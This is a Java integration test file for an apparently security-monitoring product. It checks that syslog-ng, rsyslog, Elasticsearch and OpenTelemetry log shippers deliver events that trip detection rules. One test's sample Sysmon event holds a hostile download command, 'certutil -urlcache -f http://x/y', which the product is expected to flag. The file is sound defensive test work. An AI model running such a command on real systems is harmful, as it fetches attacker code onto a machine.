package io.watchfloor.dashboards.inputs;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import io.watchfloor.dashboards.api.RunningNode;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/** Third-party programs configured by the manual's recipes for HTTP inputs: their data arrives and matches a rule. */
@Tag("peers")
class HttpPeersIT {

    private static final Duration PATIENCE = Duration.ofSeconds(60);

    /** The agent rewrites the classes of the program that it watches, which takes minutes on a busy machine. */
    private static final Duration PATIENCE_WITH_AGENT = Duration.ofMinutes(5);

    private static final String FAILED = "Failed password for root from 203.0.113.9 port 4242 ssh2";

    @RegisterExtension
    static final RunningNode NODE = RunningNode.with(DoorCaller.open("hec", "bulk", "otlp"));

    private final DoorCaller doors = DoorCaller.of(NODE);

    @TempDir
    private Path folder;

    /** A recipe with its placeholders filled in. */
    private String recipe(String name, String door, String assets) {
        return Recipes.of(name)
                .replace("https://center.example:8443", NODE.address().toString())
                .replace("TOKEN", doors.sender(door, assets));
    }

    private static JsonNode alertOf(String host) {
        return alertOf(host, PATIENCE);
    }

    private static JsonNode alertOf(String host, Duration patience) {
        await().atMost(patience)
                .untilAsserted(() -> assertThat(NODE.list("/api/v1/alerts?asset=host:" + host))
                        .singleElement()
                        .satisfies(
                                alert -> assertThat(alert.path("count").asInt()).isEqualTo(1)));
        return NODE.list("/api/v1/alerts?asset=host:" + host).getFirst();
    }

    @Test
    void syslogNgSendsToSplunksCollector() throws Exception {
        try (PeerProgram syslogNg = SyslogPeers.syslogNg(folder, "ng-hec", recipe("syslog-ng-hec", "hec", "ng-hec*"))) {
            SyslogPeers.log(folder, "sshd", FAILED);
            assertThat(alertOf("ng-hec").path("title").asText()).isEqualTo("Password of root refused");
            assertThat(syslogNg.said()).doesNotContainIgnoringCase("error parsing");
        }
    }

    @Test
    void rsyslogSendsToElasticsearchsBulk() throws Exception {
        try (PeerProgram rsyslog = SyslogPeers.rsyslog(folder, "rs-bulk", recipe("rsyslog-bulk", "bulk", "rs-bulk*"))) {
            SyslogPeers.log(folder, "sshd", FAILED);
            assertThat(alertOf("rs-bulk").path("title").asText()).isEqualTo("Password of root refused");
            assertThat(rsyslog.said()).doesNotContain("error");
        }
    }

    @Test
    void syslogNgSendsToElasticsearchsBulk() throws Exception {
        try (PeerProgram syslogNg =
                SyslogPeers.syslogNg(folder, "ng-bulk", recipe("syslog-ng-bulk", "bulk", "ng-bulk*"))) {
            SyslogPeers.log(folder, "sshd", FAILED);
            assertThat(alertOf("ng-bulk").path("title").asText()).isEqualTo("Password of root refused");
            assertThat(syslogNg.said()).doesNotContainIgnoringCase("error parsing");
        }
    }

    @Test
    void elasticsearchsClientWritesDocumentsOfWinlogbeatAndHearsOfForeignOnes() throws Exception {
        String said = NodePeers.run("""
                const document = (host) => ({ '@timestamp': '2026-11-24T10:00:00Z', winlog: {
                  channel: 'Microsoft-Windows-Sysmon/Operational', provider_name: 'Microsoft-Windows-Sysmon', event_id: '1',
                  computer_name: host,
                  event_data: { Image: 'C:\\\\Windows\\\\System32\\\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/y' } } });
                const records = [document('es-client'), document('dc01')];
                """ + recipe("elastic-node", "bulk", "es-*"));

        assertThat(said).contains("1 of 2").contains("sensor.foreign-asset");
        assertThat(alertOf("es-client").path("title").asText()).isEqualTo("Download by certutil");
        assertThat(NODE.list("/api/v1/alerts?asset=host:dc01")).isEmpty();
    }

    @Test
    void openTelemetrysExportersSendInEitherEncoding() throws Exception {
        for (String kind : List.of("proto", "http")) {
            String host = "otel-" + kind;
            String said = NodePeers.run(recipe("otlp-node", "otlp", "otel-*")
                            .replace("exporter-logs-otlp-proto", "exporter-logs-otlp-" + kind)
                            .replace("require('os').hostname()", "'" + host + "'")
                    + """
                    provider.getLogger('peer').emit({ body: 'Nov 24 10:00:01 %s sshd[77]: %s', severityText: 'INFO' });
                    provider.shutdown().then(() => console.log('sent'));
                    """.formatted(host, FAILED));

            assertThat(said).contains("sent");
            assertThat(alertOf(host).path("title").asText()).isEqualTo("Password of root refused");
        }
    }

    @Test
    void openTelemetrysAgentSendsWhatAProgramInJavaLogs() throws Exception {
        Path agent =
                Path.of(System.getProperty("watchfloor.peers", "/opt/watchfloor-peers"), "opentelemetry-javaagent.jar");
        assumeTrue(Files.exists(agent), "Not tested: OpenTelemetry's agent is not at " + agent);
        Map<String, String> environment = recipe("otlp-java", "otlp", "otel-java*")
                .lines()
                .filter(line -> line.startsWith("export "))
                .map(line ->
                        line.substring("export ".length()).replace("\"", "").split("=", 2))
                .collect(Collectors.toMap(pair -> pair[0], pair -> pair[1].replace("$(hostname)", "otel-java")));
        try (PeerProgram program = PeerProgram.start(
                folder,
                environment,
                List.of(
                        Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                        "-javaagent:" + agent,
                        "-cp",
                        Path.of(LoggingProgram.class
                                        .getProtectionDomain()
                                        .getCodeSource()
                                        .getLocation()
                                        .toURI())
                                .toString(),
                        LoggingProgram.class.getName(),
                        FAILED))) {
            assertThat(alertOf("otel-java", PATIENCE_WITH_AGENT).path("title").asText())
                    .isEqualTo("Password of root refused");
            assertThat(program.said()).doesNotContain("Failed to export");
        }
    }
}
